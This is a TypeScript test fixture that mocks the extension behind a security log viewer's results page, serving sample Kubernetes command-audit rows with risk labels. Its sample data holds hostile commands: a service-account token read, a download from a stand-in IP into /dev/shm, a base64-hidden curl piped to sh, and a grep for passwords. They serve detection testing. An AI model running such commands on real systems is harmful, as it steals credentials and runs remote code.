/** A stand-in for the extension behind the results page: answers windows, views and details from rows made on demand. */
import type { Column } from "../../src/logs/answer.ts";
import type { AnswerId, View } from "../../src/logs/answerStore.ts";
import {
  type FromResults,
  type ResultsState,
  readFromResults,
  type ShownQuestion,
  type ShownRow,
} from "../../src/pages/results.ts";
import { defaultLayout, recordFields, shownCells } from "../../src/pages/resultsState.ts";
import type { Risk } from "../../src/pages/risk.ts";
import type { PageOptions, Post } from "./harness.ts";
import { englishResults } from "./words.ts";

export type Answer = Extract<ResultsState, { kind: "answer" }>;

export const question: ShownQuestion = {
  title: "Who entered the payment pods",
  statement:
    'kind: Command and k8s.pod.namespace: payments\n| select time, "k8s.user.username", "process.cmdline" limit 1000',
  account: "Sample",
  clusters: ["shop-prod"],
  range: { fromMs: Date.UTC(2026, 10, 22, 10), toMs: Date.UTC(2026, 10, 23, 10) },
  zone: "Asia/Shanghai",
};

export const recordColumns: readonly Column[] = [
  { name: "__time__", kind: "time" },
  { name: "__source__", kind: "text" },
  { name: "__topic__", kind: "text" },
  { name: "kind", kind: "text" },
  { name: "time", kind: "time" },
  { name: "traceId", kind: "text" },
  { name: "eventId", kind: "text" },
  { name: "clusterId", kind: "text" },
  { name: "k8s", kind: "json" },
  { name: "process", kind: "json" },
  { name: "k8s.user.username", kind: "text" },
  { name: "k8s.pod.namespace", kind: "text" },
  { name: "k8s.pod.name", kind: "text" },
  { name: "k8s.container.name", kind: "text" },
  { name: "process.name", kind: "text" },
  { name: "process.cmdline", kind: "text" },
  { name: "process.cwd", kind: "text" },
  { name: "process.user.uid", kind: "number" },
];

const commands: readonly (readonly [program: string, commandLine: string])[] = [
  ["bash", "bash"],
  ["id", "id"],
  ["ls", "ls -la /app"],
  ["cat", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
  ["curl", "curl -fsSL http://198.51.100.23/d/kw -o /dev/shm/.kw"],
  ["sh", "sh -c echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy9kL2t3 | base64 -d | sh"],
  ["grep", "grep -r password /etc/app --include=*.yaml"],
  ["ps", "ps aux"],
];

const risks: Readonly<Record<string, Risk>> = {
  cat: risk("high", "sa-token-read", "Reads the token of the pod's service account.", "T1552.001"),
  curl: risk("medium", "vendor-risky-program", "A program of the vendor's list of risky programs.", "T1105"),
  sh: risk("critical", "decode-and-run", "Runs what it has decoded from base64.", "T1027"),
};

function risk(severity: Risk["severity"], rule: string, reason: string, technique: string): Risk {
  return { severity, verdicts: [{ severity, rule, title: rule, reason, mitre: [technique] }] };
}

/** The whole cells of a row of the sample. */
export function recordCells(ordinal: number): readonly (string | undefined)[] {
  const [program, commandLine] = commands[ordinal % commands.length] ?? ["", ""];
  const second = 1_795_400_000 - ordinal * 7;
  const user = `dev-${String((ordinal * 7) % 9).padStart(2, "0")}`;
  return [
    String(second),
    "10.0.0.7",
    "",
    ordinal % 40 === 39 ? "Kubernetes" : "Command",
    new Date(second * 1000 + ((ordinal * 137) % 1000)).toISOString(),
    `7c1f0e2d-5b9a-4c77-9a30-${String(1_000_000 + Math.floor(ordinal / 20))}00000`,
    `e-${String(900_000_000 + ordinal)}`,
    "c8f3a1d27b6e04c19ab5de7f3021c64ff",
    JSON.stringify({ user: { username: user, aliuid: "20871234567890123456" }, pod: { namespace: "payments" } }),
    JSON.stringify({ name: program, pid: 4711 + ordinal, parentPid: 4702, user: { uid: "1000" } }),
    user,
    "payments",
    "api-6f7c9d5b8-k2x4p",
    "api",
    program,
    commandLine,
    "/app",
    ordinal % 5 === 4 ? "0" : "1000",
  ];
}

export function answerOf(changes: Partial<Answer> = {}): Answer {
  const columns = changes.columns ?? recordColumns;
  const rowCount = changes.rowCount ?? 1_204;
  return {
    kind: "answer",
    answer: "answer-1" as AnswerId,
    question,
    rowCount,
    total: rowCount,
    elapsedMs: 412,
    gaps: [],
    columns,
    layout: defaultLayout(columns),
    view: { sort: [], filter: "" },
    traceColumn: "traceId",
    eventColumn: "eventId",
    marksRisk: true,
    ...changes,
  };
}

export function stateMessage(state: ResultsState, locale = "en") {
  return { kind: "state", state, words: englishResults, locale, zone: "Asia/Shanghai" };
}

type HostOptions = {
  readonly cells?: (ordinal: number) => readonly (string | undefined)[];
  readonly riskOf?: (ordinal: number) => Risk | undefined;
  /** The ordinals of a view, where the test sorts or filters. */
  readonly ordinals?: (view: View) => readonly number[];
};

/** Plays the extension: tells the state when the page is ready, then answers what it asks. */
export function resultsHost(
  first: ResultsState,
  { cells = recordCells, riskOf = sampleRisk, ordinals }: HostOptions = {},
): Required<Pick<PageOptions, "onMessage">> {
  let state = first;
  const rowsOf = (answer: Answer, from: number, count: number): { rows: ShownRow[]; rowCount: number } => {
    const places = ordinals?.(answer.view);
    const rowCount = places?.length ?? answer.rowCount;
    const last = Math.min(rowCount, from + count);
    const rows: ShownRow[] = [];
    for (let row = from; row < last; row++) {
      const ordinal = places?.[row] ?? row;
      rows.push({ ordinal, cells: shownCells(cells(ordinal)), risk: riskOf(ordinal) });
    }
    return { rows, rowCount };
  };
  const answer = async (message: FromResults, post: Post) => {
    if (message.kind === "ready") {
      await post(stateMessage(state));
      return;
    }
    if (state.kind !== "answer" || !("answer" in message) || message.answer !== state.answer) return;
    switch (message.kind) {
      case "rows":
        await post({
          kind: "rows",
          request: message.request,
          from: message.from,
          ...rowsOf(state, message.from, message.count),
        });
        return;
      case "view":
        state = { ...state, view: message.view };
        return;
      case "layout":
        state = { ...state, layout: message.layout };
        return;
      case "openRecord": {
        const fields = recordFields(state.columns, cells(message.ordinal), state.layout);
        await post({ kind: "record", answer: state.answer, ordinal: message.ordinal, fields });
        return;
      }
      default:
        return;
    }
  };
  return {
    onMessage: async (message, post) => {
      const read = readFromResults(message);
      if (read === undefined) throw new Error(`The page posted what it may not: ${JSON.stringify(message)}`);
      await answer(read, post);
    },
  };
}

function sampleRisk(ordinal: number): Risk | undefined {
  return risks[commands[ordinal % commands.length]?.[0] ?? ""];
}
